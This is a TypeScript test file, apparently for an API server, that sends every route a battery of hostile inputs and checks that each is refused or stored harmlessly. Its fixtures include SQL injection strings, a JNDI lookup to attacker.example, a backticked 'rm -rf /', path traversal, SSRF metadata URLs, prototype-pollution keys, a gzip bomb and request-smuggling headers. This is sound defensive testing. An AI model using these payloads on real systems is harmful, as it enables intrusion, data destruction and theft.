import { gzipSync } from 'node:zlib';
import { createHash, randomUUID } from 'node:crypto';
import { CreateNetworkBody, ErrorBody, RegisterToolBody } from '@mesh/core';
import { z } from 'zod';
import { API_BASE_PATH, API_ROUTES } from '../src/routes/api-routes';
import type { RouteDefinition } from '../src/routes/route-definition';
import { KEY_A, KEY_B, startApiHarness, type ApiHarness } from './api-harness';
import { containsString, fillPath, hasBody, pathParams, rawHttp, routeKey, validBody, type RawRequest, type RawResponse } from './route-fixtures';

/**
 * The bad-input battery: every route of the route table × every class of hostile input. Each
 * case must answer 4xx in the error shape, store nothing (row counts of every table unchanged)
 * and leave the process healthy. Cases marked `stored` are valid requests carrying hostile
 * strings on purpose: they must be stored literally and harmlessly (the tables still exist).
 * Cases are derived from the route table and each route's zod schemas, so a new route or field
 * is covered without editing this file.
 */

type JsonSchema = { type?: string | string[]; properties?: Record<string, JsonSchema>; required?: string[]; items?: JsonSchema; anyOf?: JsonSchema[]; oneOf?: JsonSchema[]; enum?: unknown[]; format?: string; additionalProperties?: unknown; minimum?: number; maximum?: number; maxItems?: number };
type Path = (string | number)[];

/** What a case must produce. */
type Expectation =
  /** A 4xx in the error shape (this status when given), nothing stored. */
  | { reject: number | '4xx' }
  /** Accepted and stored with `literal` round-tripping unchanged, or refused as a 4xx; never a 5xx. */
  | { stored: string };

interface Case {
  name: string;
  request: () => RawRequest;
  expect: Expectation;
}

let h: ApiHarness;
/** Ids of tenant A's fixtures, by path parameter name. */
const ids: Record<string, string> = {};
let tableNames: string[] = [];

beforeAll(async () => {
  // No request rate limit: the battery sends thousands of requests as one tenant. The tool fixture's secret is configured.
  h = await startApiHarness('bad-input', { MESH_RATE_LIMIT_PER_MINUTE: '0', MESH_SECRET_BATTERY_TOKEN: 'battery-token-0123456789', MESH_ADMIN_TENANTS: 'tenant-a' });
  const network = await h.deps.store.networks.create('tenant-a', CreateNetworkBody.parse({ name: 'Battery fixtures', max_iterations: 3, timeout_seconds: 60 }));
  // The fixture task carries one attachment (stored directly: the route's checks are attachments.test.ts's).
  const bytes = Buffer.from('fixture attachment bytes');
  const attachment = { name: 'fixture.png', mediaType: 'image/png' as const, data: bytes, sha256: createHash('sha256').update(bytes).digest('hex'), pages: null, width: null, height: null, durationMs: null };
  const task = await h.deps.store.tasks.create('tenant-a', network.id, { task: 'Fixture task', context: {}, priority: 5, process: false }, { attachments: [attachment] });
  ids.network_id = network.id;
  ids.task_id = task!.id;
  ids.attachment_id = task!.attachments[0]!.attachment_id;
  ids.agent_id = network.agents!.find((a) => a.type !== 'coordinator')!.id;
  // A failed subtask of the (never started) task: a retry of it is a 409 at most, the task being pending.
  ids.subtask_id = randomUUID();
  await h.t.db.query(
    `INSERT INTO subtasks (id, tenant_id, network_id, task_id, iteration, key, agent_type, description, status, error) VALUES ($1, 'tenant-a', $2, $3, 1, 'copy', 'content', 'Write', 'failed', 'fixture')`,
    [ids.subtask_id, network.id, task!.id],
  );
  const toolRoute = API_ROUTES.find((r) => routeKey(r) === 'POST /networks/:network_id/tools')!;
  const tool = RegisterToolBody.parse(validBody(toolRoute)).tool;
  ids.tool_id = (await h.deps.store.tools.create('tenant-a', network.id, { spec: tool, tools: [] })).id;
  ids.budget_id = (await h.deps.store.budgets.put({ tenant_id: 'tenant-a', network_id: null, period: 'month', max_tokens: 1_000_000, max_cost_usd: null })).budget.id;
  // A request for a person about the (never started) task's plan: a decision on it is a 409 at most.
  const subject = { iteration: 1, reasoning: 'fixture', subtasks: [{ key: 'copy', agent_type: 'content', description: 'Write', depends_on: [] }] };
  ids.approval_id = (await h.deps.store.approvals.requestForTask({ tenantId: 'tenant-a', taskId: task!.id, key: 'plan:1', kind: 'plan', subject })).approval.id;
  // An evaluation run whose one case never started.
  const evalCase = { caseId: 'fixture', networkId: network.id, spec: { task: 'Fixture case', context: {}, assertions: [{ type: 'contains' as const, value: 'x' }], rubric: null } };
  ids.eval_run_id = (await h.deps.store.evals.create('tenant-a', { label: 'Fixture run', cases: [evalCase] })).eval_run_id;
  const { rows } = await h.t.db.query<{ table_name: string }>(
    `SELECT table_name FROM information_schema.tables WHERE table_schema = $1 AND table_type = 'BASE TABLE' AND table_name <> 'schema_migrations' ORDER BY 1`,
    [h.t.schema],
  );
  tableNames = rows.map((r) => r.table_name);
});
afterAll(async () => {
  await h?.close();
});

/** Row counts of every table of the schema (a dropped table makes this throw). */
async function rowCounts(): Promise<Record<string, number>> {
  const { rows } = await h.t.db.query<Record<string, string>>(`SELECT ${tableNames.map((t) => `(SELECT count(*) FROM "${t}") AS "${t}"`).join(', ')}`);
  return Object.fromEntries(Object.entries(rows[0] ?? {}).map(([k, v]) => [k, Number(v)]));
}

const apiPath = (route: RouteDefinition, override: Record<string, string> = {}, raw = false) => `${API_BASE_PATH}${fillPath(route, { ...ids, ...override }, { raw })}`;
const bearer = (key: string): [string, string] => ['Authorization', `Bearer ${key}`];
const json: [string, string] = ['Content-Type', 'application/json'];

function request(route: RouteDefinition, parts: Partial<RawRequest> & { key?: string | null } = {}): RawRequest {
  const { key = KEY_A, ...rest } = parts;
  return { method: route.method.toUpperCase(), path: apiPath(route), ...rest, headers: [...(key === null ? [] : [bearer(key)]), ...(rest.headers ?? [])] };
}

const bodyRequest = (route: RouteDefinition, body: string | Buffer, headers: [string, string][] = [json]) => request(route, { body, headers });

// ---------------------------------------------------------------------------------------------
// The shape of a route's body, read from its zod schema (as JSON Schema), along a valid sample.

interface Field {
  path: Path;
  kind: 'string' | 'enum' | 'integer' | 'number' | 'boolean' | 'array' | 'object' | 'freeform';
  schema: JsonSchema;
  nullable: boolean;
}

/** A nullable field's schema without the null; a union's first branch (the valid fixtures use it: the http tool of RegisterToolBody). */
function unwrap(schema: JsonSchema): { schema: JsonSchema; nullable: boolean } {
  const union = schema.anyOf ?? schema.oneOf;
  if (!union) return { schema, nullable: false };
  const branches = union.filter((s) => s.type !== 'null');
  return { schema: branches[0] ?? {}, nullable: branches.length < union.length };
}

function kindOf(schema: JsonSchema): Field['kind'] {
  if (schema.enum) return 'enum';
  if (schema.type === 'object') return schema.properties && Object.keys(schema.properties).length > 0 ? 'object' : schema.additionalProperties === false ? 'object' : 'freeform';
  return (schema.type as Field['kind']) ?? 'freeform';
}

/** Every field present in the sample, with its kind; nested objects and first array items are walked. */
function fieldsOf(schema: JsonSchema, sample: unknown, path: Path = []): Field[] {
  const fields: Field[] = [];
  for (const [name, raw] of Object.entries(schema.properties ?? {})) {
    if (!sample || typeof sample !== 'object' || !(name in sample)) continue;
    const { schema: s, nullable } = unwrap(raw);
    const value = (sample as Record<string, unknown>)[name];
    const field: Field = { path: [...path, name], kind: kindOf(s), schema: s, nullable };
    fields.push(field);
    if (field.kind === 'object') fields.push(...fieldsOf(s, value, field.path));
    if (field.kind === 'array' && Array.isArray(value) && value.length > 0 && s.items) {
      const item = unwrap(s.items).schema;
      const itemField: Field = { path: [...field.path, 0], kind: kindOf(item), schema: item, nullable: false };
      if (itemField.kind === 'object') fields.push(...fieldsOf(item, value[0], itemField.path));
      else fields.push(itemField);
    }
  }
  return fields;
}

/** Strict objects in the sample (the root included): where an unknown field must be refused. */
function strictObjects(schema: JsonSchema, sample: unknown): Path[] {
  return [[], ...fieldsOf(schema, sample).filter((f) => f.kind === 'object').map((f) => f.path)];
}

function requiredPaths(schema: JsonSchema, sample: unknown, path: Path = []): Path[] {
  const own = (schema.required ?? []).map((name) => [...path, name]);
  const nested = fieldsOf(schema, sample, path)
    .filter((f) => f.kind === 'object' && f.path.length === path.length + 1)
    .flatMap((f) => requiredPaths(f.schema, getAt(sample, f.path.slice(path.length)), f.path));
  const inArrays = fieldsOf(schema, sample, path)
    .filter((f) => f.kind === 'array' && f.path.length === path.length + 1 && f.schema.items && kindOf(unwrap(f.schema.items).schema) === 'object')
    .flatMap((f) => {
      const items = getAt(sample, f.path.slice(path.length));
      return Array.isArray(items) && items.length > 0 ? requiredPaths(unwrap(f.schema.items!).schema, items[0], [...f.path, 0]) : [];
    });
  return [...own, ...nested, ...inArrays];
}

function getAt(value: unknown, path: Path): unknown {
  return path.reduce<unknown>((v, k) => (v as Record<string | number, unknown> | undefined)?.[k], value);
}

/** A deep copy of the sample with the value at `path` replaced (or removed with `remove`). */
function withValue(sample: unknown, path: Path, value: unknown, remove = false): unknown {
  const copy = structuredClone(sample) as Record<string | number, unknown>;
  if (path.length === 0) return value;
  const parent = getAt(copy, path.slice(0, -1)) as Record<string | number, unknown>;
  const last = path[path.length - 1] as string | number;
  if (remove) delete parent[last];
  else parent[last] = value;
  return copy;
}

const nested = (depth: number): unknown => (depth === 0 ? 'bottom' : { level: nested(depth - 1) });

function wrongValues(field: Field): { label: string; value: unknown }[] {
  const common = [
    { label: 'an array', value: ['x'] },
    ...(field.nullable ? [] : [{ label: 'null', value: null }]),
  ];
  switch (field.kind) {
    case 'string': {
      const formats =
        field.schema.format === 'uri'
          ? [
              { label: 'a javascript: URL', value: 'javascript:alert(1)' },
              { label: 'a file: URL', value: 'file:///etc/passwd' },
              { label: 'the cloud metadata address', value: 'http://169.254.169.254/latest/meta-data/' },
              { label: 'a loopback URL', value: 'http://127.0.0.1:6379/' },
              { label: 'a loopback URL in decimal', value: 'http://2130706433/' },
            ]
          : field.schema.format === 'date-time'
            ? [
                { label: 'not a date', value: 'tomorrow' },
                { label: 'a date without a time zone', value: '2030-01-01T00:00:00' },
              ]
            : [];
      return [...common, { label: 'a number', value: 12345 }, { label: 'a boolean', value: true }, { label: 'a NoSQL operator object', value: { $gt: '' } }, ...formats];
    }
    case 'enum':
      return [...common, { label: 'a value outside the enum', value: 'not-a-member' }, { label: 'a NoSQL operator object', value: { $ne: null } }, { label: 'a number', value: 1 }];
    case 'integer':
    case 'number': {
      const bounds = [
        ...(field.schema.minimum !== undefined ? [{ label: 'below the minimum', value: field.schema.minimum - 1 }] : []),
        ...(field.schema.maximum !== undefined ? [{ label: 'above the maximum', value: field.schema.maximum + 1 }] : []),
      ];
      return [
        ...common,
        { label: 'a numeric string', value: '5' },
        { label: 'a boolean', value: true },
        { label: 'a NoSQL operator object', value: { $gt: 0 } },
        ...(field.kind === 'integer' ? [{ label: 'a fraction', value: 1.5 }, { label: 'an unsafe integer', value: 2 ** 53 + 2 }] : []),
        ...bounds,
      ];
    }
    case 'boolean':
      return [...common, { label: 'a string', value: 'true' }, { label: 'a number', value: 1 }];
    case 'array':
      return [
        { label: 'a string', value: 'x' },
        { label: 'an object', value: { 0: 'x' } },
        ...(field.schema.maxItems !== undefined ? [{ label: 'too many items', value: Array.from({ length: field.schema.maxItems + 1 }, (_, i) => `item${i}`) }] : []),
      ];
    case 'object':
    case 'freeform':
      return [...common, { label: 'a string', value: 'x' }, { label: 'a number', value: 1 }];
  }
}

/** Strings that once broke SQL, NoSQL, template, path or shell handling somewhere. */
const HOSTILE_STRINGS = [
  `'; DROP TABLE tasks; --`,
  `" OR 1=1; DELETE FROM networks WHERE ''='`,
  `x'); SELECT pg_sleep(5); --`,
  `$where: function() { return true }`,
  `{"$gt": ""}`,
  `<script>alert(1)</script>`,
  `../../../../etc/passwd`,
  '${jndi:ldap://attacker.example/a}',
  `\`rm -rf /\``,
];

/** Raw JSON text of `value` with the placeholder key renamed (JSON.stringify would not write `__proto__` as a key). */
function withRawKey(value: unknown, key: string): string {
  return JSON.stringify(value).replace(/"__KEY__"/g, JSON.stringify(key));
}

// ---------------------------------------------------------------------------------------------
// The classes of hostile input, per route.

const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'];

function bodyCases(route: RouteDefinition): Case[] {
  const schema = z.toJSONSchema(route.body!, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
  const sample = validBody(route);
  const fields = fieldsOf(schema, sample);
  const stringFields = fields.filter((f) => f.kind === 'string');
  const freeform = fields.filter((f) => f.kind === 'freeform');
  const send = (body: unknown) => () => bodyRequest(route, JSON.stringify(body));
  const sendRaw = (text: string | Buffer, headers?: [string, string][]) => () => bodyRequest(route, text, headers);
  const at = (path: Path) => path.join('.') || 'body';
  const cases: Case[] = [];

  // Malformed JSON.
  for (const [label, text] of [
    ['truncated', '{"a": '],
    ['single quotes', "{'a': 'b'}"],
    ['a trailing comma', '{"a": 1,}'],
    ['two documents', '{} {}'],
    ['NaN', '{"a": NaN}'],
    ['a comment', '{/* hi */}'],
    ['an unescaped control character', '{"a": "x\u0001y"}'],
    ['a raw NUL byte', '{"a": "x\u0000y"}'],
    ['nothing but white space', '   '],
    ['100 000 nested arrays', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
  ] as const) {
    cases.push({ name: `malformed JSON: ${label}`, request: sendRaw(text), expect: { reject: 400 } });
  }

  // Wrong JSON type for the whole body.
  for (const [label, text] of [
    ['an array', '[]'],
    ['a string', '"task"'],
    ['a number', '42'],
    ['true', 'true'],
    ['null', 'null'],
  ] as const) {
    cases.push({ name: `wrong type: the body is ${label}`, request: sendRaw(text), expect: { reject: 400 } });
  }

  // Wrong types per field.
  for (const field of fields) {
    for (const wrong of wrongValues(field)) {
      cases.push({ name: `wrong type: ${at(field.path)} is ${wrong.label}`, request: send(withValue(sample, field.path, wrong.value)), expect: { reject: 400 } });
    }
  }

  // Missing required fields.
  for (const path of requiredPaths(schema, sample)) {
    cases.push({ name: `missing field: ${at(path)}`, request: send(withValue(sample, path, undefined, true)), expect: { reject: 400 } });
  }

  // Unknown fields, mass assignment included.
  for (const path of strictObjects(schema, sample)) {
    cases.push({ name: `unknown field in ${at(path)}`, request: send(withValue(sample, [...path, 'unexpected_field'], 1)), expect: { reject: 400 } });
  }
  for (const key of ['tenant_id', 'id', 'status', 'usage', 'created_at']) {
    if (!schema.properties?.[key]) cases.push({ name: `mass assignment: ${key}`, request: send({ ...sample, [key]: key === 'usage' ? {} : 'x' }), expect: { reject: 400 } });
  }

  // Size.
  const pad = stringFields[0]?.path ?? freeform[0]?.path ?? ['padding'];
  // A route may take more than MESH_BODY_LIMIT_BYTES (inline attachments): its body is then just over its own limit (known once the harness runs).
  const oversized = () => Math.max(2 * 1_048_576, (route.bodyLimitBytes?.(h.deps.config) ?? 0) + 1024);
  cases.push({
    name: route.bodyLimitBytes ? "a body just over the route's own limit" : 'a 2 MB body',
    request: () => send(withValue(sample, pad, 'x'.repeat(oversized())))(),
    expect: { reject: 413 },
  });
  for (const field of stringFields) {
    cases.push({ name: `a 200 kB string in ${at(field.path)}`, request: send(withValue(sample, field.path, 'y'.repeat(200_000))), expect: { reject: 400 } });
  }
  for (const field of freeform) {
    cases.push({ name: `a 200 kB string inside ${at(field.path)}`, request: send(withValue(sample, [...field.path, 'big'], 'y'.repeat(200_000))), expect: { reject: 400 } });
    cases.push({ name: `${at(field.path)} nested 50 deep`, request: send(withValue(sample, field.path, nested(50))), expect: { reject: 400 } });
    cases.push({ name: `${at(field.path)} with 5 000 keys`, request: send(withValue(sample, field.path, Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`k${i}`, i])))), expect: { reject: 400 } });
  }
  if (freeform.length === 0) cases.push({ name: 'an unknown field nested 50 deep', request: send({ ...sample, deep: nested(50) }), expect: { reject: 400 } });

  // NUL bytes, lone surrogates and invalid UTF-8.
  for (const field of stringFields) {
    cases.push({ name: `a NUL byte in ${at(field.path)}`, request: send(withValue(sample, field.path, 'before\u0000after')), expect: { reject: 400 } });
    for (const surrogate of ['\ud800', '\udc00']) {
      // JSON.stringify writes a lone surrogate as its escape: the server receives `"\ud800"` as text.
      cases.push({ name: `a lone surrogate ${JSON.stringify(surrogate)} in ${at(field.path)}`, request: send(withValue(sample, field.path, `x${surrogate}y`)), expect: { reject: 400 } });
    }
  }
  for (const field of freeform) {
    cases.push({ name: `a NUL byte in a value inside ${at(field.path)}`, request: send(withValue(sample, [...field.path, 'k'], 'a\u0000b')), expect: { reject: 400 } });
    cases.push({ name: `a NUL byte in a key inside ${at(field.path)}`, request: send(withValue(sample, field.path, { 'k\u0000': 1 })), expect: { reject: 400 } });
    cases.push({ name: `a lone surrogate inside ${at(field.path)}`, request: send(withValue(sample, [...field.path, 'k'], ['ok', '\ud83d'])), expect: { reject: 400 } });
  }
  const text = JSON.stringify(sample);
  const split = text.length - 1;
  cases.push({
    name: 'invalid UTF-8 bytes',
    request: sendRaw(Buffer.concat([Buffer.from(`${text.slice(0, split)},"z":"`), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}')])),
    expect: { reject: 400 },
  });

  // Prototype keys at the top level, in nested strict objects and inside free-form objects.
  for (const key of PROTOTYPE_KEYS) {
    for (const path of [...strictObjects(schema, sample), ...freeform.map((f) => f.path)]) {
      const value = withValue(sample, [...path, '__KEY__'], { polluted: true });
      cases.push({ name: `a "${key}" key in ${at(path)}`, request: sendRaw(withRawKey(value, key)), expect: { reject: 400 } });
    }
    for (const field of freeform) {
      const deep = withValue(sample, field.path, { a: { b: [{ __KEY__: { polluted: true } }] } });
      cases.push({ name: `a "${key}" key deep inside ${at(field.path)}`, request: sendRaw(withRawKey(deep, key)), expect: { reject: 400 } });
    }
  }

  // SQL and NoSQL injection: valid requests carrying hostile text, stored as text.
  for (const field of stringFields) {
    for (const hostile of HOSTILE_STRINGS) {
      cases.push({ name: `injection in ${at(field.path)}: ${hostile}`, request: send(withValue(validBody(route), field.path, hostile)), expect: { stored: hostile } });
    }
  }
  // Edge values a schema accepts but a database or date library might not: accepted and stored, or refused; never a 5xx.
  for (const field of fields) {
    const edges =
      field.kind === 'string' && field.schema.format === 'date-time'
        ? ['0000-01-01T00:00:00Z', '9999-12-31T23:59:59.999999999+14:00', '1970-01-01T00:00:00Z', '2024-02-29T12:00:00-12:00']
        : field.kind === 'integer' || field.kind === 'number'
          ? [field.schema.minimum, field.schema.maximum].filter((v): v is number => v !== undefined)
          : [];
    for (const edge of edges) {
      cases.push({ name: `edge value ${JSON.stringify(edge)} in ${at(field.path)}`, request: send(withValue(validBody(route), field.path, edge)), expect: { stored: '' } });
    }
  }
  for (const field of freeform) {
    cases.push({ name: `a NoSQL operator object inside ${at(field.path)}`, request: send(withValue(validBody(route), [...field.path, '$where'], { $gt: '' })), expect: { stored: '' } });
    cases.push({ name: `an SQL string inside ${at(field.path)}`, request: send(withValue(validBody(route), [...field.path, 'q'], HOSTILE_STRINGS[0])), expect: { stored: HOSTILE_STRINGS[0]! } });
  }

  // Content types, encodings and transfer encodings.
  const invalid = JSON.stringify({ ...sample, unexpected_field: 1 });
  const utf16 = Buffer.from(`\ufeff${JSON.stringify(sample)}`, 'utf16le');
  cases.push(
    { name: 'Content-Type: text/plain', request: sendRaw(text, [['Content-Type', 'text/plain']]), expect: { reject: 415 } },
    { name: 'Content-Type: application/x-www-form-urlencoded', request: sendRaw('name=x', [['Content-Type', 'application/x-www-form-urlencoded']]), expect: { reject: 415 } },
    // A route that takes uploads reads the form, and refuses a malformed one.
    { name: 'Content-Type: multipart/form-data', request: sendRaw('--b\r\n\r\nx\r\n--b--', [['Content-Type', 'multipart/form-data; boundary=b']]), expect: { reject: route.uploads ? 400 : 415 } },
    { name: 'no Content-Type with a body', request: sendRaw(text, []), expect: { reject: 415 } },
    { name: 'Content-Type: application/json; charset=utf-16 with a UTF-8 body', request: sendRaw(text, [['Content-Type', 'application/json; charset=utf-16']]), expect: { reject: 415 } },
    { name: 'Content-Type: application/json; charset=utf-16 with a UTF-16 body', request: sendRaw(utf16, [['Content-Type', 'application/json; charset=utf-16']]), expect: { reject: 415 } },
    { name: 'Content-Type: application/json; charset=latin1', request: sendRaw(text, [['Content-Type', 'application/json; charset=latin1']]), expect: { reject: 415 } },
    { name: 'two conflicting Content-Type headers', request: sendRaw(text, [['Content-Type', 'text/plain'], json]), expect: { reject: 415 } },
    {
      name: 'Content-Encoding: gzip bomb (1 kB → 50 MB)',
      request: sendRaw(gzipSync(Buffer.from(`{"a":"${'0'.repeat(50 * 1_048_576)}"}`)), [json, ['Content-Encoding', 'gzip']]),
      expect: { reject: 413 },
    },
    { name: 'Content-Encoding: gzip with a body that is not gzip', request: sendRaw(text, [json, ['Content-Encoding', 'gzip']]), expect: { reject: 400 } },
    { name: 'Content-Encoding: compress', request: sendRaw(text, [json, ['Content-Encoding', 'compress']]), expect: { reject: 415 } },
    { name: 'Transfer-Encoding: chunked, an invalid body in odd chunks', request: () => chunked(route, invalid, [1, 3, 7]), expect: { reject: 400 } },
    { name: 'Transfer-Encoding: chunked with chunk extensions', request: () => chunked(route, invalid, [5], ';ext=1'), expect: { reject: 400 } },
    { name: 'Transfer-Encoding: Chunked (capitalised)', request: () => chunked(route, invalid, [4], '', 'Chunked'), expect: { reject: 400 } },
    { name: 'Transfer-Encoding: chunked and a Content-Length', request: () => ({ ...chunked(route, invalid, [4]), headers: [...chunked(route, invalid, [4]).headers!, ['Content-Length', '5']] }), expect: { reject: 400 } },
    { name: 'Transfer-Encoding: gzip, chunked', request: () => chunked(route, invalid, [8], '', 'gzip, chunked'), expect: { reject: '4xx' } },
    { name: 'Transfer-Encoding: identity', request: () => chunked(route, invalid, [8], '', 'identity'), expect: { reject: '4xx' } },
    {
      name: 'two different Content-Length headers',
      request: () => ({ ...bodyRequest(route, invalid), omitContentLength: true, headers: [bearer(KEY_A), json, ['Content-Length', String(invalid.length)], ['Content-Length', '3']] }),
      expect: { reject: 400 },
    },
  );
  return cases;
}

function chunked(route: RouteDefinition, text: string, sizes: number[], extension = '', encoding = 'chunked'): RawRequest {
  const chunks: string[] = [];
  let rest = text;
  for (let i = 0; rest.length > 0; i++) {
    const size = sizes[i % sizes.length] as number;
    const part = rest.slice(0, size);
    rest = rest.slice(size);
    chunks.push(`${Buffer.byteLength(part).toString(16)}${extension}\r\n${part}\r\n`);
  }
  return request(route, { body: `${chunks.join('')}0\r\n\r\n`, headers: [json, ['Transfer-Encoding', encoding]] });
}

/** A valid body for routes that take one, so that the part under test is the only thing wrong. */
const validBodyParts = (route: RouteDefinition): Partial<RawRequest> => (hasBody(route) ? { body: JSON.stringify(validBody(route)), headers: [json] } : {});

function pathCases(route: RouteDefinition): Case[] {
  const cases: Case[] = [];
  for (const param of pathParams(route)) {
    const ask = (value: string, raw = false) => () => request(route, { path: apiPath(route, { [param]: value }, raw), ...validBodyParts(route) });
    cases.push(
      { name: `:${param} not a UUID`, request: ask('not-a-uuid'), expect: { reject: 400 } },
      { name: `:${param} as ../../etc/passwd`, request: ask('../../etc/passwd', true), expect: { reject: '4xx' } },
      { name: `:${param} as URL-encoded traversal %2e%2e%2f`, request: ask('%2e%2e%2f%2e%2e%2fetc%2fpasswd', true), expect: { reject: 400 } },
      { name: `:${param} as ..%2f..%2f with a UUID`, request: ask(`..%2f..%2f${ids[param]}`, true), expect: { reject: 400 } },
      { name: `:${param} overlong (5 000 characters)`, request: ask('a'.repeat(5000)), expect: { reject: 400 } },
      { name: `:${param} a UUID with a NUL byte`, request: ask(`${ids[param]}%00`, true), expect: { reject: 400 } },
      { name: `:${param} a UUID with junk after it`, request: ask(`${ids[param]}x`), expect: { reject: 400 } },
      { name: `:${param} SQL injection`, request: ask(`' OR '1'='1`), expect: { reject: 400 } },
      { name: `:${param} a NoSQL operator`, request: ask('[$ne]=1', true), expect: { reject: 400 } },
      { name: `:${param} invalid percent-encoding`, request: ask('%E0%A4%A', true), expect: { reject: 400 } },
      { name: `:${param} a valid UUID that does not exist`, request: ask(randomUUID()), expect: { reject: 404 } },
    );
  }
  if (pathParams(route).length > 0) {
    // Operator routes see every tenant's ids, and refuse keys outside MESH_ADMIN_TENANTS.
    const foreign = route.path.startsWith('/admin/') ? 403 : 404;
    cases.push({ name: "another tenant's key on tenant A's ids", request: () => request(route, { key: KEY_B, ...validBodyParts(route) }), expect: { reject: foreign } });
  }
  return cases;
}

function queryCases(route: RouteDefinition): Case[] {
  const schema = z.toJSONSchema(route.query, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
  const withQuery = (query: string) => () => request(route, { path: `${apiPath(route)}?${query}`, ...validBodyParts(route) });
  const cases: Case[] = [
    { name: 'an unknown query parameter', request: withQuery('unexpected=1'), expect: { reject: 400 } },
    { name: 'a __proto__ query parameter', request: withQuery('__proto__=1'), expect: { reject: 400 } },
    { name: 'a __proto__[…] query parameter', request: withQuery('__proto__[polluted]=1'), expect: { reject: 400 } },
    { name: 'a constructor.prototype query parameter', request: withQuery('constructor.prototype.polluted=1'), expect: { reject: 400 } },
  ];
  for (const [name, raw] of Object.entries(schema.properties ?? {})) {
    const prop = unwrap(raw).schema;
    cases.push(
      { name: `?${name} twice`, request: withQuery(`${name}=1&${name}=2`), expect: { reject: 400 } },
      { name: `?${name} with a NUL byte`, request: withQuery(`${name}=a%00b`), expect: { reject: 400 } },
      { name: `?${name} with invalid UTF-8`, request: withQuery(`${name}=%FF%FE`), expect: { reject: 400 } },
      { name: `?${name} as a bracketed NoSQL operator`, request: withQuery(`${name}[$ne]=x`), expect: { reject: 400 } },
      { name: `?${name} 10 kB long`, request: withQuery(`${name}=${'q'.repeat(10_000)}`), expect: { reject: 400 } },
    );
    if (prop.type === 'integer' || prop.type === 'number') {
      for (const value of ['abc', '1e400', 'NaN', '-1', '1;DROP TABLE tasks']) {
        if (value === '-1' && (prop.minimum ?? 0) < 0) continue;
        cases.push({ name: `?${name}=${value}`, request: withQuery(`${name}=${encodeURIComponent(value)}`), expect: { reject: 400 } });
      }
    }
    if (prop.enum) cases.push({ name: `?${name} outside its enum`, request: withQuery(`${name}=${encodeURIComponent(HOSTILE_STRINGS[0]!)}`), expect: { reject: 400 } });
    else if (prop.type === 'string') {
      // Free text (a search): hostile strings must be harmless, never a 5xx.
      for (const hostile of HOSTILE_STRINGS) {
        cases.push({ name: `?${name} injection: ${hostile}`, request: withQuery(`${name}=${encodeURIComponent(hostile)}`), expect: { stored: '' } });
      }
    }
  }
  return cases;
}

function headerCases(route: RouteDefinition): Case[] {
  const base = () => request(route, { key: null, ...(hasBody(route) ? { body: JSON.stringify({ unexpected_field: 1 }), headers: [json] } : {}) });
  const withHeaders = (headers: [string, string][], extra: Partial<RawRequest> = {}) => () => {
    const r = base();
    return { ...r, ...extra, headers: [...headers, ...(r.headers ?? [])] };
  };
  const cases: Case[] = [
    { name: 'a 32 kB header', request: withHeaders([['X-Padding', 'p'.repeat(32_768)], bearer(KEY_A)]), expect: { reject: 431 } },
    { name: 'a 20 kB request line', request: () => ({ ...base(), path: `${apiPath(route)}?q=${'q'.repeat(20_000)}`, headers: [bearer(KEY_A)] }), expect: { reject: 431 } },
    { name: 'no Host header', request: withHeaders([bearer(KEY_A)], { omitHost: true }), expect: { reject: 400 } },
    { name: 'a header name with a space', request: withHeaders([['Bad Header', 'x'], bearer(KEY_A)]), expect: { reject: 400 } },
    { name: 'a header value with a raw control character', request: withHeaders([['X-Ctl', 'a\u0001b'], bearer(KEY_A)]), expect: { reject: 400 } },
  ];
  if (!route.auth) return cases;
  cases.push(
    { name: 'no key', request: withHeaders([]), expect: { reject: 401 } },
    { name: 'an unknown key', request: withHeaders([bearer('mesh_not-a-real-key-000000')]), expect: { reject: 401 } },
    { name: 'a 10 kB key', request: withHeaders([bearer('k'.repeat(10_000))]), expect: { reject: 401 } },
    { name: 'an empty Bearer', request: withHeaders([['Authorization', 'Bearer ']]), expect: { reject: 401 } },
    { name: 'a key with SQL in it', request: withHeaders([bearer(`' OR '1'='1`)]), expect: { reject: 401 } },
    { name: 'Basic auth that is not base64', request: withHeaders([['Authorization', 'Basic !!!not-base64']]), expect: { reject: 401 } },
    { name: 'a scheme nobody knows', request: withHeaders([['Authorization', `Token ${KEY_A}`]]), expect: { reject: 401 } },
    { name: "conflicting keys: Authorization is tenant A's, X-API-Key tenant B's", request: withHeaders([bearer(KEY_A), ['X-API-Key', KEY_B]]), expect: { reject: 401 } },
    { name: 'two Authorization headers (A then B)', request: withHeaders([bearer(KEY_A), bearer(KEY_B)]), expect: { reject: 401 } },
    { name: 'two Authorization headers (a wrong key first)', request: withHeaders([bearer('wrong-key-123456'), bearer(KEY_A)]), expect: { reject: 401 } },
    { name: 'two X-API-Key headers', request: withHeaders([['X-API-Key', KEY_A], ['X-API-Key', KEY_B]]), expect: { reject: 401 } },
  );
  return cases;
}

/** Every case for a route; body cases for routes with a body, path cases for routes with ids. */
function casesFor(route: RouteDefinition): Case[] {
  return [...(hasBody(route) ? bodyCases(route) : []), ...pathCases(route), ...queryCases(route), ...headerCases(route)];
}

// ---------------------------------------------------------------------------------------------

/** Thrown by checkCase with one line saying what went wrong. */
class CaseFailure extends Error {}

function check(ok: boolean, problem: () => string): void {
  if (!ok) throw new CaseFailure(problem());
}

const sameCounts = (a: Record<string, number>, b: Record<string, number>) =>
  Object.keys({ ...a, ...b })
    .filter((t) => a[t] !== b[t])
    .map((t) => `${t} ${a[t]} → ${b[t]}`)
    .join(', ');

async function checkCase(c: Case, route: RouteDefinition): Promise<void> {
  const before = await rowCounts();
  const res = await rawHttp(h.url, c.request());
  const said = () => `${res.status} ${res.text.slice(0, 200)}`;
  // Never a 5xx; the error shape on every 4xx, with nothing internal in it.
  check(res.status < 500, () => `server error: ${said()}`);
  if (res.status >= 400) {
    check(ErrorBody.safeParse(res.body).success, () => `status ${res.status} without the error shape: ${JSON.stringify(res.text.slice(0, 200))}`);
    check(!/\bat .+\.(ts|js):\d+|node_modules|SELECT |INSERT |UPDATE /.test(res.text), () => `internals in the error: ${said()}`);
  }
  check(({} as Record<string, unknown>).polluted === undefined, () => 'Object.prototype was polluted');

  if ('reject' in c.expect) {
    const expected = c.expect.reject;
    check(expected === '4xx' ? res.status >= 400 && res.status < 500 : res.status === expected, () => `expected ${expected}, got ${said()}`);
    const after = await rowCounts();
    check(sameCounts(before, after) === '', () => `rows changed: ${sameCounts(before, after)}`);
    return;
  }
